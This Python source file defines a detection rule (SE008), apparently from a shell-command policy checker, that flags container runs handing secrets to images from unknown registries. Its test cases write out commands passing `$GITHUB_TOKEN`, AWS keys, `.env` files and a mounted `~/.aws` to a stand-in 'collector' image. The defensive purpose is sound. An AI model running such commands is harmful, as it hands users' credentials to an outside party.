"""Secrets handed to a container whose image comes from a registry the policy does not know
(SE008): `docker run -e TOKEN="$GITHUB_TOKEN" registry.example.net/tool`, `--env-file .env`, or a
credential store mounted into it (`-v ~/.aws:/root/.aws`). The image's code runs with the secret;
whoever publishes the image decides what it does with it.

The registry is judged as NE008 judges a push (`_pushes.py`): the image's name must carry a host
(Docker Hub's short names, a local image, pass) that is no repository host, allowed destination,
loopback or private address, or name without a dot."""

from __future__ import annotations

from collections.abc import Iterator

from .._analysis import Arg, CommandSubject, path_holding, path_is
from .._model import Severity
from .._tables import Tables
from ..programs.destinations import Host
from ._paths import reading
from ._pushes import CONTAINER_ENGINES, foreign_host, image_registry, secret_file, secret_variable
from ._rule import Hit, Inspects, rule

_STARTS_A_CONTAINER = frozenset({("run",), ("create",), ("container", "run"), ("container", "create")})


def _names_a_secret_option(subject: CommandSubject) -> bool:
    """The cheap first test: an environment or a mount is given."""
    return any((arg.value or "").startswith(("-e", "--env", "-v", "--volume", "--mount")) for arg in subject.args)


def _given_secret(subject: CommandSubject, tables: Tables) -> tuple[Arg, str] | None:
    """The first secret the command hands the container, and what it is."""
    read = reading(subject)
    for setting in read.values("-e", "--env"):
        secret = _secret_in_setting(setting, tables)
        if secret is not None:
            return setting, secret
    for file in read.values("--env-file"):
        if secret_file(file, subject.cwd, tables):
            return file, f"the secret file `{file.display()}`"
    stores = tables.secret_files + tables.credential_files
    for mount in (*read.values("-v", "--volume"), *read.values("--mount")):
        source = _mount_source(mount)
        if source is not None and (
            path_is(source, stores, subject.cwd) is not None or path_holding(source, stores, subject.cwd) is not None
        ):
            return mount, f"the credentials under `{source.display()}`"
    return None


def _secret_in_setting(setting: Arg, tables: Tables) -> str | None:
    """`-e NAME` (the variable passed through) with NAME a secret's, or `-e NAME=...$SECRET...`."""
    name, equals, _ = setting.source.partition("=")
    if not equals:
        return f"the secret variable `${name}`" if tables.is_secret_variable(name) else None
    variable = secret_variable(setting, tables)
    return f"the secret variable `${variable}`" if variable is not None else None


def _mount_source(mount: Arg) -> Arg | None:
    """The host path of `-v SRC:DST[:OPTS]` or `--mount type=bind,source=SRC,...` (a named volume has no `/`)."""
    value = mount.value
    if value is None:
        return None
    if "=" in value:
        fields = [field.partition("=") for field in value.split(",")]
        source = next((field for key, _, field in fields if key in ("source", "src")), None)
    else:
        source = value.partition(":")[0]
    if not source or not source.startswith(("/", "~", ".")):
        return None
    return Arg((source,), source, mount.span)


def _image_host(subject: CommandSubject) -> Host | None:
    images = reading(subject).operand("IMAGE")
    registry = image_registry(images[0].value) if images and images[0].value is not None else None
    return Host(registry.lower()) if registry is not None else None


@rule(
    id="SE008",
    name="secret-given-to-unknown-image",
    severity=Severity.MEDIUM,
    summary="Starts a container from an image of a registry no policy list knows, handing it a secret: a secret variable (`-e TOKEN=$GITHUB_TOKEN`, `-e AWS_SECRET_ACCESS_KEY`), a secret env file (`--env-file .env`) or a mounted credential store (`-v ~/.aws:/root/.aws`).",
    rationale=(
        "The image's code runs with the secret and whoever publishes the image decides what it does with it: "
        "a collector that sends it home needs no network command the engine could see."
    ),
    safer_alternative="Run images from the project's own registry, or give the container only the secrets it needs; list your registry in the policy's repository_hosts.",
    inspects=Inspects.COMMAND,
    commands=CONTAINER_ENGINES,
    applies=_names_a_secret_option,
    must_match=(
        'docker run -e TOKEN="$GITHUB_TOKEN" collect.example.net/collector',
        "docker run --rm -e AWS_SECRET_ACCESS_KEY collect.example.net/tool",
        "podman run --env-file .env collect.example.net/app",
        "docker run -v ~/.aws:/root/.aws:ro collect.example.net/tool",
    ),
    must_not_match=(
        'docker run -e OPENAI_API_KEY="$OPENAI_API_KEY" app:dev',
        "docker run --env-file .env ghcr.io/acme/api:1",
        "docker run -e LOG_LEVEL=debug collect.example.net/tool",
        "docker run -v $PWD:/src collect.example.net/tool",
    ),
)
def secret_given_to_unknown_image(subject: CommandSubject, tables: Tables) -> Iterator[Hit]:
    if reading(subject).path not in _STARTS_A_CONTAINER:
        return
    host = _image_host(subject)
    if host is None or not foreign_host(host, tables):
        return
    given = _given_secret(subject, tables)
    if given is not None:
        word, secret = given
        yield Hit(word.span, f"hands {secret} to an image from `{host.name}`, a registry no policy list knows")


FOREIGN_IMAGE_RULES = (secret_given_to_unknown_image,)
